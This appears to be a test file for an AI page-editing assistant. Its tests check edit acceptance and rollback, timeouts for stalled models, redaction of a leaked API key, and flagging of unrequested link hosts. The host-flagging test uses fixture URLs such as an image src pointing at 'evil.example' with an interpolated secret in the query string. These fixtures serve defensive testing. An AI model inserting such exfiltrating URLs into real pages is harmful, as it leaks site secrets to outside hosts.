import { randomUUID } from 'node:crypto';
import fc from 'fast-check';
import { afterAll, beforeAll, beforeEach, expect, it, vi } from 'vitest';
import { ROOT, type LayoutDocument } from '#common/layout/document.ts';
import { neededFor } from '#common/layout/proposal/items.ts';
import { validate } from '#common/layout/validate.ts';
import { registry } from '#common/widgets/registry.ts';
import { type FakeModel, startFakeModel } from '#server/developer/assistant/assistant/testing/fake-model.ts';
import { proposals } from '#server/platform/db/schema/proposals.ts';
import { sites } from '#server/platform/db/schema/sites.ts';
import { meta, node, pageNode } from '#server/testing/layouts.ts';
import type { World } from '#server/testing/world.ts';
import { ANSWER_LIMITS, type AnswerLimits } from './answer-by-model';
import type { AskEvent } from './asked';
import { beginAsk } from './begin-ask';
import { asking, asksModel, countsOf, edits, forget, openAiWorld, set } from './testing/ai-world';

vi.setConfig({ testTimeout: 90_000 });

const KEY = `canary-${randomUUID()}`;
let world: World;
let model: FakeModel;
beforeAll(async () => {
  model = await startFakeModel();
  world = await openAiWorld({ ...asksModel(model), AI_API_KEY: KEY });
});
afterAll(async () => {
  await world.close();
  await model.close();
});
beforeEach(() => forget(world));

const ANSWER = edits(
  { label: 'Say it better', act: 'set', node: 'h', props: { text: 'Plants by post' } },
  {
    label: 'Add prices',
    act: 'insert',
    parent: ROOT,
    after: 's1',
    block: {
      id: 'prices',
      widget: 'Section',
      props: {},
      children: [{ id: 'p', widget: 'Text', props: { text: 'Prices' } }],
    },
  },
  { label: 'Put the text there', act: 'move', node: 'a', parent: 'prices' },
  { label: 'Say the prices', act: 'set', node: 'p', props: { text: 'From 9' } },
  { label: 'Drop the last section', act: 'remove', node: 's2' },
  {
    label: 'Add a button',
    act: 'insert',
    parent: 's1',
    after: null,
    block: { widget: 'Button', props: { label: 'Buy' } },
  },
);

it(
  'any choice of an answer leaves a valid page, and the version before comes back to the byte',
  { tags: ['details'] },
  async () => {
    const root = {
      [ROOT]: pageNode(['s1', 's2']),
      s1: node('Section', ROOT, {}, ['h', 'a']),
      h: node('Heading', 's1', { text: 'Plants', level: 1 }),
      a: node('Text', 's1', { text: 'By post.' }),
      s2: node('Section', ROOT, {}, ['b']),
      b: node('Text', 's2', { text: 'Closed.' }),
    };
    const pageKey = 'chosen';
    const body = { type: 'layout' as const, pageKey, root, meta, isNewRecord: true };
    await world.call('POST v1/dashboard/setConfig', { as: world.a2, body });
    const load = async () => {
      const { body: page } = await world.call('GET v1/dashboard/initConfig', { as: world.a2, query: { pageKey } });
      return { version: page.version, document: { root: page.root, meta: page.meta } as unknown as LayoutDocument };
    };
    const before = JSON.stringify((await load()).document);
    model.play(() => ({ text: ANSWER }));
    await fc.assert(
      fc.asyncProperty(fc.subarray(['c1', 'c2', 'c3', 'c4', 'c5', 'c6'], { minLength: 1 }), async (picked) => {
        const { version: baseVersion } = await load();
        const { last } = await asking(world)({ task: 'page', pageKey, baseVersion });
        const { proposal } = last!.data as {
          proposal: { id: string; items: { id: string; needs: string[] }[] };
        };
        const items = [...new Set(picked.flatMap((id) => [...neededFor(proposal.items, id)]))];
        const accepted = await world.call('POST v1/proposals/accept', {
          as: world.a2,
          body: { id: proposal.id, items },
        });
        expect([accepted.status, accepted.body.version]).toEqual([200, baseVersion + 1]);
        const { document } = await load();
        expect(validate(document, registry)).toMatchObject({ ok: true });
        expect(JSON.stringify(document)).not.toBe(before);
        const restore = { pageKey, version: baseVersion };
        await world.call('POST v1/dashboard/restoreVersion', { as: world.a2, body: restore });
        expect(JSON.stringify((await load()).document)).toBe(before);
      }),
      { numRuns: 20 },
    );
  },
);

/** Asks with limits of its own, as the call of the API does with the product's. */
async function askWithin(limits: AnswerLimits) {
  const [site] = await world.parts.db.select().from(sites);
  const tenant = { siteId: site!.id, titleIndex: 1, organizationId: site!.organizationId, role: 'editor' } as const;
  const session = { sessionId: 'x', isGlobalAdmin: false, actUserId: null, isShutOut: false };
  const actor = { userId: world.a2.id, userName: 'a2', ...tenant, ...session };
  const ask = { task: 'change', prompt: 'x', pageKey: 'home', baseVersion: 1, selection: [] } as const;
  return beginAsk(world.parts, actor, { ...ask, selection: [] }, new AbortController().signal, limits);
}

it.each([
  ['says nothing', { hangs: true }, { longestMs: 60_000, silenceMs: 200 }],
  ['stops in the middle', { text: edits(set('x')), hangs: true }, { longestMs: 60_000, silenceMs: 200 }],
  ['never ends', { text: edits(set('x')), hangs: true }, { longestMs: 300, silenceMs: 60_000 }],
])('a model that %s is given up, its server let go, and its query given back', async (_, move, limits) => {
  model.play([move]);
  const events: AskEvent[] = [];
  for await (const event of await askWithin(limits)) events.push(event);
  expect(events.at(-1)).toMatchObject({ event: 'failed', data: { details: [{ code: 'model_slow' }] } });
  await vi.waitUntil(() => model.ended() === 1, { timeout: 60_000 });
  expect(await countsOf(world)).toEqual([0, 0]);
});

it('a slow answer is told while it comes', async () => {
  const rest = new AbortController();
  const waits = new Promise<void>((done) => rest.signal.addEventListener('abort', () => done()));
  model.play([{ text: edits(set('Hello there')), waits }]);
  const events: AskEvent[] = [];
  for await (const event of await askWithin(ANSWER_LIMITS)) {
    events.push(event);
    if (event.event === 'progress' && event.data.letters > 0) rest.abort();
  }
  expect(events.map(({ event }) => event)).toEqual(['progress', 'progress', 'done']);
  expect(await countsOf(world)).toEqual([1, 1]);
});

it('what a server writes of its own key into an answer is hidden before it is kept or shown', async () => {
  const escaped = KEY.replace('c', '\\u0063');
  const answer = edits({ ...set(`Text ${KEY}`), label: `Label ${KEY}` }).replace('Better words', `Title ${escaped}`);
  model.play([{ text: answer }]);
  const { last } = await asking(world)({});
  const [row] = await world.parts.db.select().from(proposals);
  expect(row?.title).toMatch(/^Title \[hidden/);
  expect(row?.items[0]?.label).toMatch(/^Label \[hidden/);
  for (const kept of [JSON.stringify(row), JSON.stringify(last)]) expect(kept).not.toContain(KEY);
});

it('hosts that neither the page nor the prompt names are marked at their change', async () => {
  const root = {
    [ROOT]: pageNode(['b']),
    b: node('Button', ROOT, { label: 'Buy', href: 'https://www.known.example/a' }),
  };
  const body = { type: 'layout' as const, pageKey: 'linked', root, meta, isNewRecord: true };
  await world.call('POST v1/dashboard/setConfig', { as: world.a2, body });
  const button = (href: string) => ({
    label: href,
    act: 'insert',
    parent: ROOT,
    block: { widget: 'Button', props: { label: 'Go', href } },
  });
  const image = { widget: 'Image', props: { src: 'https://evil.example/?k={{ api.x }}', alt: 'x' } };
  const text = [{ text: 'Read', link: 'https://user@other.example:8443/x' }];
  model.play([
    {
      text: edits(
        button('https://known.example/b'),
        button('https://asked.example/c'),
        button('/here'),
        { label: 'Picture', act: 'insert', parent: ROOT, block: image },
        { label: 'Text', act: 'insert', parent: ROOT, block: { widget: 'Text', props: { text } } },
        button('https://{{ api.host }}.evil.example/'),
      ),
    },
  ]);
  const prompt = 'Link to our shop (asked.example).';
  const { last } = await asking(world)({ task: 'page', pageKey: 'linked', prompt });
  const { proposal } = last!.data as { proposal: { id: string } };
  const whole = await world.call('GET v1/proposals/:id', { as: world.a2, params: { id: proposal.id } });
  const items = whole.body.proposal.items as { hosts?: string[] }[];
  expect(items.map(({ hosts }) => hosts)).toEqual([
    undefined,
    undefined,
    undefined,
    ['evil.example'],
    ['other.example'],
    ['{{ api.host }}.evil.example'],
  ]);
});
